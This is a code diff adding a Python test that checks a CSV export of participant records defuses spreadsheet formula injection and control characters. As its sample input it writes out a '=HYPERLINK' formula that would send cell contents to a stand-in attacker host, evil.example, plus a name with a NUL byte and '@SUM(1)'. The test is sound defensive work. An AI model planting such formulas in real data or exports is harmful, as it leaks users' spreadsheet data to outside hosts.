@@ -11,7 +11,7 @@ from sqlmodel import Session, select
 
 from central_server.cli import main
 from central_server.demo import DEMO_AGENT, DEMO_PASSWORD
-from central_server.models import Enrollment, ServerUser
+from central_server.models import Enrollment, Participant, ServerUser
 from central_server.settings import REPO_ROOT
 from tests.helpers.samples import make_op, payment_payload, worker_payload
 
@@ -168,3 +168,25 @@ def test_init_db_creates_only_server_tables_even_with_client_models_loaded(tmp_p
         engine.dispose()
     assert tables == set(ServerModel.metadata.tables) | {"alembic_version"}
     assert "worker" not in tables and "outbox" not in tables
+
+
+def test_export_cells_never_run_as_formulas(central, tmp_path):
+    """A pushed name "=HYPERLINK(...)" and an older record's NUL byte were written as is."""
+    db = central.settings.database_url
+    central.add_user("agen.satu")
+    agent = central.login("agen.satu")
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
+    w = worker_payload(full_name=formula)
+    old = worker_payload(serial=2, full_name="Lama")
+    agent.push([make_op("worker.register", w, 1), make_op("worker.register", old, 2)])
+    with Session(central.engine) as s:  # written before names were checked at the centre
+        # (a NUL byte too on SQLite; PostgreSQL never stores one)
+        nul = "\x00" if central.engine.dialect.name == "sqlite" else "\x07"
+        s.get(Participant, old["id"]).full_name = f"Lama{nul}\r\n@SUM(1)"
+        s.commit()
+    out_file = tmp_path / "participants.csv"
+    assert run(db, "export", "participants", "--out", str(out_file))[0] == 0
+    names = {r["id"]: r["full_name"] for r in csv.DictReader(io.StringIO(out_file.read_text(encoding="utf-8")))}
+    assert names[w["id"]] == "'" + formula
+    assert names[old["id"]] == "Lama\ufffd\ufffd\ufffd@SUM(1)"
+    assert nul not in out_file.read_text(encoding="utf-8")
